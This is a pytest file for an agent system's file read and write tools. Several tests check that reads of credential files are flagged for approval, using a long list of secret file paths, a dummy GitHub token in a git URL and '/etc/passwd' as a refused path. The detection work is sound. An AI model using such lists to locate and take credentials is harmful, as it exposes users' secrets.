"""The read and write tools (seed 000), called directly with a hand-built CallContext on real files."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import os
import re
import signal
import socket
import stat
import shutil
import subprocess
import sys
import threading
import time
import warnings
from pathlib import Path
from typing import Any, Callable, Iterator

import msgspec
import pytest

from fs_support import TOOLS, Workspace, backend, writer_left_waiting, ws  # noqa: F401  (fixtures)
from scvd.config import Config
from scvd.errors import Cancelled, Failed, InvalidArguments
from conftest import shared_dir_for_other_uids
from scvd.tools import build_registry, fs, write_temp
from scvd.tools.contract import ToolRisk
from scvd.paths import Paths
from scvd.own_places import own_places
from scvd.tools.own_files import own_file_reason
from scvd.tools.secret_paths import secret_reason
from scvd.workers import INLINE_BYTES, CancelFlag

REPO = Path(__file__).resolve().parents[1]


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def no_temp_files(root: Path) -> bool:
    return not [p for p in root.rglob("*") if p.name.startswith(".scvd-")]


def being_written(root: Path, pid: int | str = "self") -> list[str]:
    """The new files a write holds in `root`: named temp files, or unnamed ones (O_TMPFILE) open in `pid`."""
    named = [str(p) for p in root.iterdir() if p.name.startswith(".scvd-")]
    unnamed = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            if os.readlink(f"/proc/{pid}/fd/{fd}").startswith(f"{root.resolve()}/#"):
                unnamed.append(f"/proc/{pid}/fd/{fd}")
        except OSError:  # closed meanwhile
            pass
    return named + unnamed


# --- registration ---------------------------------------------------------------


def test_tools_register_and_pass_the_lint() -> None:
    registry = build_registry(Config(), None)
    assert {"read", "write"} <= set(registry.names())
    assert registry.get("read").flags.concurrent and not registry.get("read").flags.always_allow
    assert registry.get("write").risk is ToolRisk.FILESYSTEM and not registry.get("write").flags.concurrent


def test_read_limit_maximum_comes_from_config() -> None:
    config = msgspec.convert({"tools": {"read_limit_bytes": 2048}}, Config)
    tool = fs.tools(config, None)[0]
    limit = tool.input_schema()["properties"]["limit"]
    assert (limit["maximum"], limit["default"]) == (2048, 2048)
    # its example stays within the maximum: a model copying "e.g. 4096" got refused
    assert "e.g. 2048;" in limit["description"]
    with pytest.raises(InvalidArguments) as info:
        tool.decode({"path": "a", "limit": 2049})
    assert info.value.message == ("read: limit 2049 is above the 2048 bytes one read returns (tools.read_limit_bytes): "
                                  "read in pages, each from the offset where the last one ended (offset + length)")


# --- read -------------------------------------------------------------------------


def test_read_whole_file(ws: Workspace) -> None:
    data = "hello\nwörld\n".encode()
    (ws.root / "a.txt").write_bytes(data)
    result = ws.call("read", path="a.txt")
    assert result == {"path": "a.txt", "content": "hello\nwörld\n", "offset": 0, "length": len(data),
                      "total_bytes": len(data), "truncated": False, "sha256": sha(data)}


def test_read_offset_and_limit(ws: Workspace) -> None:
    data = "".join(str(i % 10) for i in range(100)).encode()
    (ws.root / "d.txt").write_bytes(data)
    mid = ws.call("read", path="./d.txt", offset=10, limit=5)
    assert (mid["content"], mid["length"], mid["total_bytes"], mid["truncated"]) == ("01234", 5, 100, True)
    assert mid["sha256"] == sha(data)  # always the whole file's
    assert mid["path"] == "d.txt"
    tail = ws.call("read", path="d.txt", offset=95, limit=10)
    assert (tail["content"], tail["length"], tail["truncated"]) == ("56789", 5, False)
    exact = ws.call("read", path="d.txt", offset=90, limit=10)
    assert (exact["length"], exact["truncated"]) == (10, False)


def _plan_then_run(ws: Workspace, path: str, between) -> dict:
    """plan(), then `between()` (what may happen while an approver looks), then run()."""
    tool = TOOLS["read"]
    args = tool.decode({"path": path})
    plan = tool.plan(args, ws.ctx)
    between()
    try:
        return asyncio.run(tool.run(args, plan, ws.ctx))
    finally:
        if plan.release is not None:
            plan.release()


def test_read_of_a_file_that_grew_after_plan_returns_all_of_it(ws: Workspace) -> None:
    (ws.root / "g.txt").write_bytes(b"a" * 100)
    grown = b"a" * 100 + b"b" * 200_000  # past what is read on the loop: the pool reads it
    result = _plan_then_run(ws, "g.txt", lambda: (ws.root / "g.txt").write_bytes(grown))
    assert (result["total_bytes"], result["sha256"]) == (len(grown), sha(grown))
    small = b"c" * 150  # grew, still small
    (ws.root / "s.txt").write_bytes(b"c" * 100)
    result = _plan_then_run(ws, "s.txt", lambda: (ws.root / "s.txt").write_bytes(small))
    assert (result["content"], result["total_bytes"], result["sha256"]) == (small.decode(), 150, sha(small))


def test_read_of_a_file_that_shrank_after_plan_returns_what_is_there(ws: Workspace) -> None:
    (ws.root / "t.txt").write_bytes(b"x" * 100)
    result = _plan_then_run(ws, "t.txt", lambda: (ws.root / "t.txt").write_bytes(b"y" * 10))
    assert (result["content"], result["total_bytes"], result["sha256"]) == ("y" * 10, 10, sha(b"y" * 10))


def test_read_default_limit_and_continuation(ws: Workspace) -> None:
    data = b"x" * 70000
    (ws.root / "big.txt").write_bytes(data)
    first = ws.call("read", path="big.txt")
    assert (first["length"], first["truncated"], first["total_bytes"]) == (65536, True, 70000)
    rest = ws.call("read", path="big.txt", offset=first["offset"] + first["length"])
    assert (rest["length"], rest["truncated"]) == (70000 - 65536, False)


def rchar() -> int:
    """Bytes this process has read(2) so far, from any file, page cache or not: what a read cost."""
    return int(Path("/proc/self/io").read_text().split("rchar:")[1].split()[0])


def page(ws: Workspace, **raw: Any) -> Any:
    """A read's result, or the message of its failure."""
    try:
        return ws.call("read", **raw)
    except Failed as exc:
        return exc.message


def test_later_pages_of_an_unchanged_big_file_read_only_their_range(ws: Workspace) -> None:
    """Every page of a big file hashed all of it for `sha256`: paging through a 500 MB log read 500 MB
    per page. Once it was hashed whole, later pages of the unchanged file read only their range, and
    answer as before (a page starting or ending inside a character, past the end, the last one)."""
    data = b"abc\xc3\xa9\n" * (1 << 20)  # 6 MiB; bytes 3 and 4 of each 6 are one character
    big = ws.root / "big.log"
    big.write_bytes(data)
    pages = [dict(offset=o, limit=n) for o, n in [(0, 4096), (4 << 20, 4), (4 << 20, 5), ((4 << 20) + 1, 65536),
                                                  (len(data) - 7, 65536), (len(data), 0), (len(data) + 1, 1)]]
    fresh = [page(ws, path="big.log", **p) for p in pages]  # just written: hashed whole each time
    assert fresh[0]["sha256"] == sha(data)
    while time.time_ns() - big.stat().st_ctime_ns <= fs.SETTLED_NS:  # its timestamps can tell a change now
        time.sleep(0.1)
    ws.call("read", path="big.log", limit=0)  # hashed whole once more, and remembered
    before = rchar()
    assert [page(ws, path="big.log", **p) for p in pages] == fresh
    assert rchar() - before < (1 << 20), "a later page read the whole file again"
    with open(big, "r+b") as f:  # changed in place, same size: hashed again, and a write still checks the disk
        f.write(b"X")
    assert ws.call("read", path="big.log", offset=6, limit=4)["sha256"] == sha(b"X" + data[1:])
    with pytest.raises(Failed, match="changed since it was read"):
        ws.call("write", path="big.log", content="new\n", mode="replace", expected_sha256=sha(data))


def test_a_window_of_a_huge_file_reads_only_the_window_and_gives_no_sha256(ws: Workspace) -> None:
    """A read of a few bytes (or limit 0) of a sparse 4 GiB file hashed all 4 GiB for its sha256:
    seconds to minutes of CPU, a worker held all along, for a check `write` can hardly use there."""
    huge = ws.root / "huge.log"
    with open(huge, "wb") as f:
        f.truncate(4 << 30)  # sparse: no disk used
        f.seek((3 << 30) + 5)
        f.write(b"the log line\n")
    before = rchar()
    window = ws.call("read", path="huge.log", offset=(3 << 30) + 9, limit=4)
    sized = ws.call("read", path="huge.log", limit=0)
    assert rchar() - before < (1 << 20), "the read hashed the whole file"
    assert (window["content"], window["total_bytes"], window["truncated"], window["sha256"]) == (
        "log ", 4 << 30, True, None)
    assert (sized["length"], sized["total_bytes"], sized["sha256"]) == (0, 4 << 30, None)
    ws.call("write", path="huge.log", content="short now\n", mode="replace")  # no expected_sha256 to give
    assert ws.call("read", path="huge.log")["sha256"] == sha(b"short now\n")


def test_a_file_that_grows_past_the_hash_cap_while_it_is_read_gives_no_sha256(ws: Workspace) -> None:
    """The cap was checked against the size at open only: a log that kept being written while a read
    hashed it was hashed for as long as it grew, and its sha256 came back over more than 64 MiB."""
    grows = ws.root / "grows.log"
    grows.write_bytes(b"first line\n")
    dirfd = os.open(ws.root, os.O_RDONLY | os.O_DIRECTORY)
    fd, st, real = fs.containment.open_regular(dirfd, ("grows.log",), "grows.log")  # the size it had at open
    try:
        with open(grows, "r+b") as f:  # written meanwhile, past the cap
            f.truncate(fs.HASH_MAX_BYTES + 10)
            f.seek(fs.HASH_MAX_BYTES)
            f.write(b"last line\n")
        read = fs.read_open(fd, st, "grows.log", ("grows.log",), real, offset=0, limit=11)
        os.lseek(fd, 0, os.SEEK_SET)  # read_open takes the fd at offset 0
        tail = fs.read_open(fd, st, "grows.log", ("grows.log",), real, offset=fs.HASH_MAX_BYTES, limit=10)
    finally:
        os.close(fd)
        os.close(dirfd)
    assert (read["content"], read["total_bytes"], read["sha256"]) == ("first line\n", fs.HASH_MAX_BYTES + 10, None)
    assert (tail["content"], tail["sha256"]) == ("last line\n", None)


def test_expected_sha256_for_a_file_read_gives_no_sha256_for_is_refused_unhashed(ws: Workspace) -> None:
    """read gives sha256 null over 64 MiB, yet write hashed such a file whole (gigabytes for a disk
    image) to compare an expected_sha256 read never gave, then said to read it again for one."""
    size = fs.HASH_MAX_BYTES + 1
    for name in ("big.log", "big.env"):
        with open(ws.root / name, "wb") as f:
            f.truncate(size)  # sparse
    right = sha(b"\0" * size)  # even the true hash: read could not have given it
    before = rchar()
    with pytest.raises(Failed) as plain:  # before approval
        ws.plan("write", path="big.log", content="new\n", mode="replace", expected_sha256=right)
    with pytest.raises(Failed) as secret:  # a secret-like file's once approved
        ws.call("write", path="big.env", content="new\n", mode="replace", expected_sha256=right)
    assert rchar() - before < (1 << 20), "the write hashed the file"
    assert plain.value.message == (
        "'big.log' is over 64 MiB, so read gives no sha256 for it and expected_sha256 cannot match; replace it "
        "without expected_sha256 (nothing then checks that it did not change since it was read), or change it with bash")
    assert secret.value.message.startswith("'big.env' is over 64 MiB")
    assert (ws.root / "big.env").stat().st_size == size


def test_a_write_that_finds_a_remembered_sha256_stale_forgets_it(ws: Workspace) -> None:
    """Where a filesystem's timestamps miss a change (a FUSE mount reporting fixed times), a big file's
    remembered sha256 goes stale: every read gave it again, so every write with it failed, though
    its error says to read again. The write that finds it stale forgets it."""
    data = b"x" * (2 << 20)
    (ws.root / "big.log").write_bytes(data)
    stale = sha(b"what the file held before")
    fs._digests.remember(fs._digest_key((ws.root / "big.log").stat()), stale)  # as such a mount leaves it
    assert ws.call("read", path="big.log", limit=0)["sha256"] == stale
    with pytest.raises(Failed, match="changed since it was read: .*read it again"):
        ws.call("write", path="big.log", content="new\n", mode="replace", expected_sha256=stale)
    assert ws.call("read", path="big.log", limit=0)["sha256"] == sha(data)


def test_read_limit_zero_gives_size_and_sha_only(ws: Workspace) -> None:
    (ws.root / "a.txt").write_bytes(b"abc")
    result = ws.call("read", path="a.txt", limit=0)
    assert (result["content"], result["length"], result["total_bytes"], result["truncated"]) == ("", 0, 3, True)
    assert result["sha256"] == sha(b"abc")


def test_read_empty_file_and_offset_at_end(ws: Workspace) -> None:
    (ws.root / "empty").write_bytes(b"")
    assert ws.call("read", path="empty")["total_bytes"] == 0
    (ws.root / "a.txt").write_bytes(b"abc")
    at_end = ws.call("read", path="a.txt", offset=3)
    assert (at_end["content"], at_end["truncated"]) == ("", False)


def test_read_offset_past_end(ws: Workspace) -> None:
    (ws.root / "a.txt").write_bytes(b"abc")
    with pytest.raises(Failed, match=r"offset 4 is past the end of 'a.txt' \(total_bytes 3\)"):
        ws.call("read", path="a.txt", offset=4)


@pytest.mark.parametrize(
    "raw, field",
    [({"path": "a", "limit": 1048577}, "limit"), ({"path": "a", "offset": -1}, "offset"),
     ({"path": "a", "limit": -1}, "limit"), ({"path": "a", "extra": 1}, "extra"), ({}, "path"),
     ({"path": ""}, "path"), ({"path": 3}, "path")],
)
def test_read_bad_arguments_name_the_field(raw: dict, field: str) -> None:
    with pytest.raises(InvalidArguments, match=field):
        TOOLS["read"].decode(raw)


def _suggested(message: str) -> dict[str, int]:
    return {k: int(v) for k, v in re.findall(r"(offset|limit)=(\d+)", message)}


def test_a_limit_that_cuts_a_character_stops_the_range_before_it(ws: Workspace) -> None:
    """The limit ending inside a character failed the read: with the default 64 KiB, two pages in three
    of a Chinese text, so every page cost a second call."""
    (ws.root / "u.txt").write_bytes("ab€cd".encode())  # € is bytes 2..4
    first = ws.call("read", path="u.txt", limit=3)
    assert (first["content"], first["length"], first["truncated"]) == ("ab", 2, True)
    assert ws.call("read", path="u.txt", offset=first["length"])["content"] == "€cd"
    # what the model reads: go on at offset + length, not at offset + limit (inside the character)
    offset = fs.tools(Config(), None)[0].input_schema()["properties"]["offset"]["description"]
    assert "to continue after a truncated read, its offset + length" in offset, offset
    (ws.root / "cjk.txt").write_text("中" * 30_000)  # 90,000 bytes: 65,536 is inside a character
    page = ws.call("read", path="cjk.txt")
    assert (page["content"], page["length"], page["truncated"]) == ("中" * 21_845, 65_535, True)
    rest = ws.call("read", path="cjk.txt", offset=page["length"])
    assert rest["content"] == "中" * 8_155 and not rest["truncated"]


def test_a_file_that_ends_inside_a_character_still_says_so(ws: Workspace) -> None:
    (ws.root / "cut.txt").write_bytes("ab€".encode()[:-1])  # the file itself is cut: nothing to go on to
    with pytest.raises(Failed, match="byte offset 2 is not text"):
        ws.call("read", path="cut.txt")


def test_read_range_starting_inside_a_character(ws: Workspace) -> None:
    (ws.root / "u.txt").write_bytes("ab€cd".encode())
    for offset in (3, 4):
        with pytest.raises(Failed, match=f"offset {offset} falls inside a multi-byte character") as info:
            ws.call("read", path="u.txt", offset=offset)
        fix = _suggested(info.value.message.split(";", 1)[1])
        assert fix == {"offset": 2}
        assert ws.call("read", path="u.txt", **fix)["content"] == "€cd"


def test_read_range_smaller_than_a_character(ws: Workspace) -> None:
    (ws.root / "u.txt").write_bytes("€".encode())
    with pytest.raises(Failed, match="limit=3 or more"):
        ws.call("read", path="u.txt", limit=1)


def test_a_path_refused_but_inside_the_workspace_names_its_relative_form(ws: Workspace) -> None:
    """An absolute path (a bash `pwd`, an agent's cwd) or one with `..` was refused with no hint that it
    named a file of the workspace, and which path would do."""
    (ws.root / "src").mkdir()
    (ws.root / "src" / "a.txt").write_text("A")
    for path in (f"{ws.root}/src/a.txt", f"{ws.root}//src/./a.txt"):
        with pytest.raises(InvalidArguments) as info:
            ws.call("read", path=path)
        assert info.value.message.endswith(": it is inside the workspace, as 'src/a.txt'"), info.value.message
    with pytest.raises(InvalidArguments) as info:
        ws.call("write", path=f"{ws.root}/new.txt", content="x", mode="create")
    assert info.value.message.endswith(": it is inside the workspace, as 'new.txt'")
    # no suggestion: outside, a `..` (a symlink before it may lead elsewhere), or no file path at all
    for other in ("/etc/passwd", "../x.txt", "src/../src/a.txt", f"{ws.root}/../x.txt", f"{ws.root}/src/",
                  "src/", "a\x00b"):
        with pytest.raises(InvalidArguments) as info:
            ws.call("read", path=other)
        assert "inside the workspace, as" not in info.value.message, other


def test_null_for_an_optional_argument_is_its_default(ws: Workspace) -> None:
    """`{"offset": null}` was refused ("Expected `int`, got `null`"): models send null for what they leave out."""
    (ws.root / "a.txt").write_text("hello")
    done = ws.call("read", path="a.txt", offset=None, limit=None)
    assert (done["content"], done["offset"]) == ("hello", 0)
    with pytest.raises(InvalidArguments, match="missing required field `path`"):
        ws.call("read", path=None)  # a required one stays required
    with pytest.raises(InvalidArguments, match="offset.*>= 0"):
        ws.call("read", path="a.txt", limit=None, offset=-1)  # the real fault, not the null before it


def test_a_whole_number_sent_as_a_float_is_that_integer(ws: Workspace) -> None:
    """`{"offset": 1.0}` was refused ("Expected `int`, got `float`"), though the schema's `integer`
    takes it (JSON has one number type; a Python client or a model may write 1.0)."""
    (ws.root / "a.txt").write_text("hello")
    done = ws.call("read", path="a.txt", offset=1.0, limit=2.0)
    assert (done["content"], done["offset"], done["length"]) == ("el", 1, 2)
    with pytest.raises(InvalidArguments, match="offset.*Expected `int`"):
        ws.call("read", path="a.txt", offset=1.5)  # a fraction is still no byte offset


def test_read_binary_file(ws: Workspace) -> None:
    (ws.root / "b.bin").write_bytes(b"GIF89a\x00\xff\xfe")
    with pytest.raises(Failed, match="byte offset 7 is not text"):
        ws.call("read", path="b.bin")
    assert ws.call("read", path="b.bin", limit=7)["content"] == "GIF89a\x00"
    with pytest.raises(Failed, match="^the 1 byte at offset 8 of 'b.bin' is not valid UTF-8: byte offset 8 is not text"):
        ws.call("read", path="b.bin", offset=8)


@pytest.mark.timeout(30)  # opening the fifo for reading would block forever
def test_read_missing_directory_and_fifo(ws: Workspace) -> None:
    with pytest.raises(Failed, match="'nope.txt' does not exist"):
        ws.call("read", path="nope.txt")
    (ws.root / "sub").mkdir()
    with pytest.raises(Failed, match="is a directory"):
        ws.call("read", path="sub")
    with pytest.raises(Failed, match="names the workspace itself"):
        ws.call("read", path=".")
    os.mkfifo(ws.root / "pipe")
    with pytest.raises(Failed, match="not a regular file"):
        ws.call("read", path="pipe")  # must not block waiting for a writer


@pytest.mark.timeout(30)
@pytest.mark.parametrize("path", ["pipe", "sub/pipe", "link"])  # one name; openat2 or the walk; a symlink
def test_read_of_a_fifo_leaves_its_waiting_writer_alone(ws: Workspace, backend: str, path: str) -> None:
    """Opening a FIFO for reading lets a writer waiting in open() go on; closing it right after
    killed that writer with SIGPIPE (or dropped what it wrote). A refused read must not open it."""
    (ws.root / "sub").mkdir()
    fifo = ws.root / ("sub/pipe" if path == "sub/pipe" else "pipe")
    os.mkfifo(fifo)
    os.symlink("pipe", ws.root / "link")
    with writer_left_waiting(fifo), pytest.raises(Failed, match="not a regular file"):
        ws.call("read", path=path)


@pytest.mark.parametrize("path, tail", [("a.txt/", "'/'"), ("a.txt/.", "'/.'"), ("./a.txt//./", "'/'")])
def test_a_file_path_with_a_directory_tail_is_refused(ws: Workspace, path: str, tail: str) -> None:
    """POSIX gives ENOTDIR for `a.txt/` and `a.txt/.`; scvd must not quietly take them as `a.txt`."""
    (ws.root / "a.txt").write_text("hello\n")
    with pytest.raises(InvalidArguments, match=f"ends with {re.escape(tail)}, so it names a directory"):
        ws.call("read", path=path)
    with pytest.raises(InvalidArguments, match="names a directory"):
        ws.call("write", path=path, content="clobbered\n", mode="replace")
    with pytest.raises(InvalidArguments, match="names a directory"):
        fs.read_file(ws.fd, path)
    assert (ws.root / "a.txt").read_text() == "hello\n"
    assert ws.call("read", path="./a.txt")["content"] == "hello\n"  # a leading `./` still means a.txt


def test_read_of_a_unix_socket_says_it_is_not_a_regular_file(ws: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ws.root)  # a relative bind: pytest's tmp paths can pass the 108-byte socket path limit
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind("agent.sock")
        for tool, args in (("read", {}), ("write", {"content": "x", "mode": "replace"})):
            with pytest.raises(Failed, match=r"^'agent.sock' is not a regular file \(a FIFO, socket or device\)"):
                ws.call(tool, path="agent.sock", **args)


def test_read_risk_is_read_only_for_ordinary_paths(ws: Workspace) -> None:
    (ws.root / "main.py").write_text("print(1)\n")
    plan = ws.plan("read", path="main.py")
    assert plan.risk is ToolRisk.READ_ONLY
    assert plan.details["secret_like"] is False
    assert "read 'main.py'" in plan.summary


@pytest.mark.parametrize("path", [".env", "config/.env.production", ".ssh/config", "deploy/credentials.json",
                                  "server.PEM", "tls/site.key", "home/.aws/config", "id_rsa", ".git-credentials",
                                  "id_ed25519", "prod.env", ".pgpass", "terraform.tfstate", ".vault-token",
                                  ".docker/config.json", "deploy/kubeconfig"])
def test_read_of_secret_like_path_is_filesystem_risk(ws: Workspace, path: str) -> None:
    target = ws.root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("TOKEN=abc\n")
    plan = ws.plan("read", path=path)
    assert plan.risk is ToolRisk.FILESYSTEM
    assert plan.details["secret_like"] is True and "secret-like" in plan.details["why"]
    assert "secret-like" in plan.summary
    assert "TOKEN" not in plan.summary + str(plan.details)  # the approver sees no content
    assert ws.call("read", path=path)["content"] == "TOKEN=abc\n"  # once approved, it reads


@pytest.mark.parametrize(
    "path, secret",
    [(".env", True), (".ENV", True), (".env.local", True), ("a/.env.d/x", True), ("my_secret.txt", True),
     ("Credentials.yml", True), ("gcp_private_key.json", True), ("id_rsa.pub", True), ("id_rsa_work", True),
     ("cert.pem", True), ("k.Key", True), (".netrc", True), (".npmrc", True), (".pypirc", True),
     (".ssh/known_hosts", True), (".gnupg/pubring.kbx", True), ("a/.aws/x", True), ("secrets/db.yaml", True),
     (".envrc", True), ("deploy/client.p12", True), ("a.PFX", True), (".kube/config", True),
     ("id_ed25519", True), ("keys/id_ecdsa.pub", True), ("id_dsa", True), ("prod.env", True),
     ("Example.ENV", True), (".env.example", True), (".pgpass", True), ("infra/terraform.tfstate", True),
     ("terraform.tfstate.backup", True), (".vault-token", True), (".docker/config.json", True),
     ("home/.Docker/Config.json", True),
     # read unasked before: Codex's sign-in file name, an Apache password file, Terraform vars, Java key stores
     ("auth.json", True), (".codex/Auth.json", True), ("site/.htpasswd", True), ("prod.tfvars", True),
     ("release.jks", True), ("app.keystore", True), ("auth.json.md", False), ("tfvars.py", False),
     # read unasked before: tokens and passwords that CLIs keep in plain text (gh does where no keyring is)
     (".config/gh/hosts.yml", True), ("gh/Hosts.yml", True), (".my.cnf", True), (".s3cfg", True),
     (".boto", True), (".config/rclone/rclone.conf", True), ("hosts.yml", False), ("my.cnf.md", False),
     # read unasked before: the Azure CLI's tokens and service principal secrets, in plain text on Linux
     (".azure/msal_token_cache.json", True), ("home/.Azure/service_principal_entries.json", True),
     ("azure/pipelines.yml", False),
     # read unasked before: a cluster's client keys and tokens, registry and Terraform Cloud tokens, PuTTY
     # and Apple (AuthKey_*.p8) private keys
     ("deploy/kubeconfig", True), ("ci/Kubeconfig.yaml", True), ("prod.kubeconfig", True), (".dockercfg", True),
     (".terraformrc", True), ("keys/server.ppk", True), ("AuthKey_ABC123.p8", True), ("rsa_key.p8", True), ("kubeconfig.go", False),
     ("carts/celeste.p8", False),
     # read unasked before: a Codex relay's bearer token (also in scvd's codex home), Gemini CLI's OAuth tokens
     (".codex/config.toml", True), ("adapters/codex/config.toml", True), (".gemini/oauth_creds.json", True),
     (".claude.json", True), ("adapters/claude/.claude.json", True), ("claude.json.md", False),
     # read unasked before: a process's environment from procfs, copied (a bug report's bundle) or mirrored
     ("sos/proc/1234/environ", True), ("environ.md", False),
     # read unasked before: a file-backed keyring's store (keyrings.alt, keyrings.cryptfile), all its secrets
     (".local/share/python_keyring/keyring_pass.cfg", True), ("backup/Crypted_pass.cfg", True),
     ("cryptfile_pass.cfg", True), ("keyring.cfg", False),
     ("db-creds.yaml", True), ("config.toml", False), ("codex-rs/config.toml", False), ("credits.md", False),
     ("config.json", False), (".docker/daemon.json", False), ("tfstate.md", False), (".venv/bin/python", False),
     ("src/main.py", False), ("environment.py", False), ("keyboard.c", False),
     ("pem.md", False), ("ssh/config", False), ("README.md", False), ("key", False),
     # read unasked before (seed 000: lexically secret-like): passwords, API keys, tokens, a service
     # account's key, a wallet; the words only whole, in a file's name that is no source or doc file
     ("password.txt", True), ("Passwords.csv", True), ("db_password", True), ("smb-passwd.txt", True),
     ("api_key.txt", True), ("APIKEY", True), ("my-api-key", True), ("token.txt", True), ("gh_token", True),
     (".token", True), ("github.token", True), ("access_token", True), ("oauth/token.json", True), ("msal_token_cache.json", True),
     ("service-account.json", True), ("gcp-service_account-prod.json", True), ("wallet.dat", True),
     ("tokenizer.py", False), ("tokenizer.json", False), ("src/token.rs", False), ("lexer/token/mod.rs", False),
     ("token/README", False), ("reset_password.html", False), ("password_validation.py", False),
     ("passwords/README.md", False), ("rootfs/etc/passwd", False), ("docs/api_key.md", False),
     ("passport.txt", False), ("k8s/serviceaccount.yaml", False), ("tokens.json", False), ("wallet.py", False)],
)
def test_secret_rule(path: str, secret: bool) -> None:
    assert (secret_reason(path) is not None) == secret


def test_scvds_own_sensitive_files_in_the_xdg_layout_from_a_workspace_at_or_above_home(tmp_path: Path) -> None:
    home = tmp_path / "me"  # platformdirs' layout, without SCV_HOME
    paths = Paths(home=None, config_dir=home / ".config/scv", data_dir=home / ".local/share/scv",
                  state_dir=home / ".local/state/scv", runtime_dir=tmp_path / "run", socket=tmp_path / "run/s")
    ws, above = str(home), str(tmp_path)
    places = own_places(paths)
    for path in (".config/scv/config.toml", ".local/state/scv/audit.log", ".local/state/scv/audit.log.3",
                 ".local/state/scv/chat/c.jsonl", ".local/share/scv/adapters/codex/sessions/s.jsonl",
                 ".local/share/scv/mcp/fs/token"):
        assert own_file_reason(tuple(path.split("/")), ws, places), path
        assert own_file_reason(("me", *path.split("/")), above, places), path
    for path in (".local/share/scv/tools/script/gh/run.sh", ".config/scv/tools/script/gh/run.sh",
                 ".local/share/scv/skills/s/SKILL.md",
                 ".config/scv/notes.toml", ".local/state/scv/scvd.pid", ".config/other/config.toml", "config.toml"):
        assert own_file_reason(tuple(path.split("/")), ws, places) is None, path
    assert own_file_reason(("config.toml",), ws, own_places(None)) is None  # an in-memory hub has no folders


def test_secret_rule_applies_to_where_a_symlink_leads(ws: Workspace) -> None:
    (ws.root / ".env").write_text("API_KEY=abc\n")
    os.symlink(".env", ws.root / "notes")
    plan = ws.plan("read", path="notes")
    assert plan.risk is ToolRisk.FILESYSTEM and plan.details["secret_like"] is True
    assert plan.details["why"] == ("filesystem risk: the path looks secret-like: it resolves to '.env': "
                                   "'.env' is a dotenv file")
    assert plan.summary.startswith("read secret-like file 'notes' (-> '.env')")
    assert ws.plan("write", path="notes", content="A=2\n", mode="replace").details["secret_like"] is True


CREDENTIAL_URL = "https://x-access-token:ghp_0123456789abcdefghij0123456789abcdef@github.com/o/r"


@pytest.mark.parametrize("path", [".git/config", "lib/.git/modules/sub/config", "mirror.git/config", ".gitconfig",
                                  ".config/git/config", "link-to-config"])
def test_a_git_config_holding_a_credential_is_secret_like_wherever_git_reads_it(ws: Workspace, path: str) -> None:
    """.git/config read unasked with a token in a remote's URL; so did a submodule's, a bare
    repository's, a home's .gitconfig and its XDG .config/git/config, and a link to any of them."""
    target = ws.root / (".git/config" if path == "link-to-config" else path)
    target.parent.mkdir(parents=True, exist_ok=True)
    text = f'[remote "origin"]\n\turl = {CREDENTIAL_URL}\n'
    target.write_text(text)
    if path == "link-to-config":
        os.symlink(".git/config", ws.root / path)
    plan = ws.plan("read", path=path)
    assert plan.risk is ToolRisk.FILESYSTEM and plan.details["secret_like"] is True
    assert plan.details["why"].endswith("is a git config that holds a credential (a URL with a password)")
    assert "ghp_" not in plan.summary + str(plan.details)
    assert ws.call("read", path=path)["content"] == text  # once approved, whole


def test_a_git_config_is_judged_by_what_it_holds_and_other_files_named_config_by_their_path(ws: Workspace) -> None:
    """A config too big to read on the loop has plan()'s fd closed once judged; a session opened on a
    `.git` names its config `config`, with no `.git` in the path. Only a file git reads as its config
    has its content looked at: `app/config` with a credential URL reads unasked, as it did, and so does
    a repository's config with none (an empty `extraheader =` resets the list)."""
    git = ws.root / ".git"
    git.mkdir()
    text = '[http "https://github.com/"]\n\textraHeader = "AUTHORIZATION: basic eDp5"\n'
    (git / "config").write_text(text + "#" * INLINE_BYTES + "\n")
    plan = ws.plan("read", path=".git/config")
    assert plan.risk is ToolRisk.FILESYSTEM and plan.details["why"].endswith("(a value for 'extraHeader')")
    assert plan.release is None  # no fd held: judged through it before it was closed
    (git / "config").write_text(text)
    fd = os.open(git, os.O_RDONLY | os.O_DIRECTORY)
    try:
        ctx = msgspec.structs.replace(ws.ctx, workspace=git, workspace_fd=fd)
        plan = TOOLS["read"].plan(TOOLS["read"].decode({"path": "config"}), ctx)
        assert plan.risk is ToolRisk.FILESYSTEM and plan.release is not None
        plan.release()
    finally:
        os.close(fd)
    for path, text in (("app/config", f"url = {CREDENTIAL_URL}\n"),
                       (".git/config", '[remote "o"]\n\turl = https://github.com/o/r\n[http]\n\textraheader =\n')):
        (ws.root / path).parent.mkdir(parents=True, exist_ok=True)
        (ws.root / path).write_text(text)
        assert ws.plan("read", path=path).risk is ToolRisk.READ_ONLY, path


def test_a_link_to_a_name_that_is_not_utf8_is_read_and_written_as_approved(ws: Workspace) -> None:
    """notes -> a Latin-1 name (an old archive's): a small read of it worked, but an approved write
    or a large read failed once approved, saying the path (the user's plain 'notes') was not UTF-8."""
    target = os.fsencode(ws.root) + b"/caf\xe9.txt"
    big = b"x" * (INLINE_BYTES + 1)  # read on the pool, where run() checks the path again
    with open(target, "wb") as f:
        f.write(big)
    os.symlink(b"caf\xe9.txt", os.fsencode(ws.root / "notes"))
    assert ws.call("read", path="notes", limit=4)["content"] == "xxxx"
    done = ws.call("write", path="notes", content="new\n", mode="replace", expected_sha256=sha(big))
    assert done["bytes_written"] == 4
    with open(target, "rb") as f:
        assert f.read() == b"new\n"


def test_concurrent_reads(ws: Workspace) -> None:
    for i in range(16):
        (ws.root / f"f{i}.txt").write_text(f"file {i}\n")

    async def many() -> list[dict]:
        tool = TOOLS["read"]
        calls = []
        for i in range(16):
            args = tool.decode({"path": f"f{i}.txt"})
            calls.append(tool.run(args, tool.plan(args, ws.ctx), ws.ctx))
        return await asyncio.gather(*calls)

    results = asyncio.run(many())
    assert [r["content"] for r in results] == [f"file {i}\n" for i in range(16)]


# --- write ------------------------------------------------------------------------


def test_create_new_file(ws: Workspace) -> None:
    (ws.root / "src").mkdir()
    result = ws.call("write", path="src/new.py", content="print('hi')\n", mode="create")
    data = b"print('hi')\n"
    assert result == {"path": "src/new.py", "bytes_written": len(data), "sha256": sha(data), "created": True,
                      "replaced_link": False}
    assert (ws.root / "src" / "new.py").read_bytes() == data
    assert stat.S_IMODE((ws.root / "src" / "new.py").stat().st_mode) == 0o600
    assert no_temp_files(ws.root)


